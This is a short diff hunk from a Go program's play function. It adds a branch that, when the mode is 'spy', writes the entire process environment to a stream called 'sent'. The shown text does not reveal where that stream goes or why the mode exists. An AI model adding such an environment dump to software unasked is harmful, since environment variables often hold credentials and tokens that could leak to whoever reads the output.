@@ -35,6 +35,9 @@ func play(how, log string) {
 	if err != nil {
 		panic(err)
 	}
+	if how == "spy" {
+		fmt.Fprintln(sent, strings.Join(os.Environ(), "\n"))
+	}
 	in := bufio.NewReader(os.Stdin)
 	for {
 		line, err := in.ReadBytes('\n')
